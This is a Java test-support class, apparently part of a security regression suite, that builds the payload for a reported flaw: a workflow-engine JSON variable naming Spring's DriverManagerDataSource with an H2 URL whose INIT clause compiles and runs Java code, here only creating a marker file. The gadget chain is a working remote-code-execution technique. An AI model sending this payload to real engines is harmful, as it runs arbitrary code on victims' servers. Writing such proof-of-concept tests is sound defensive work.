package io.worklane.hostile;

import java.nio.file.Path;
import java.util.Map;
import java.util.UUID;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;

/**
 * The payload of finding 1, as the attacker sent it: an engine REST variable of type {@code Object}, serialized
 * as JSON, naming Spring's {@code DriverManagerDataSource} (on the classpath) with an H2 in-memory URL. When the
 * engine rebuilds the object and later writes it back as JSON (to see whether a delegate changed it), Jackson
 * calls every getter, {@code getConnection()} included; H2 runs the URL's {@code INIT} statements on connect:
 * here it compiles a Java method ({@code CREATE ALIAS ... AS $$...$$}) and calls it, creating {@code marker}.
 * Arbitrary code, in the app's JVM, with the app's rights.
 */
final class H2InitGadget {

    static final String GADGET_CLASS = "org.springframework.jdbc.datasource.DriverManagerDataSource";

    private static final ObjectMapper JSON = new ObjectMapper();

    private H2InitGadget() {
    }

    /** The JDBC URL whose INIT creates {@code marker}; H2 splits at every ';', so the code's own are '\;'. */
    static String jdbcUrl(Path marker) {
        String database = "hostile_" + UUID.randomUUID().toString().replace("-", "");
        return "jdbc:h2:mem:" + database + ";INIT=CREATE ALIAS IF NOT EXISTS HOSTILE_TOUCH AS $$"
                + " void touch(String path) throws Exception {"
                + " java.nio.file.Files.createFile(java.nio.file.Path.of(path))\\; } $$"
                + "\\;CALL HOSTILE_TOUCH('" + marker.toAbsolutePath() + "')";
    }

    /** An engine REST variable ({@code {"type":"Object","value":...,"valueInfo":...}}) carrying the gadget. */
    static Map<String, Object> objectVariable(Path marker) {
        try {
            String serialized = JSON.writeValueAsString(Map.of("url", jdbcUrl(marker)));
            return Map.of("type", "Object", "value", serialized, "valueInfo",
                    Map.of("objectTypeName", GADGET_CLASS, "serializationDataFormat", "application/json"));
        }
        catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }
}
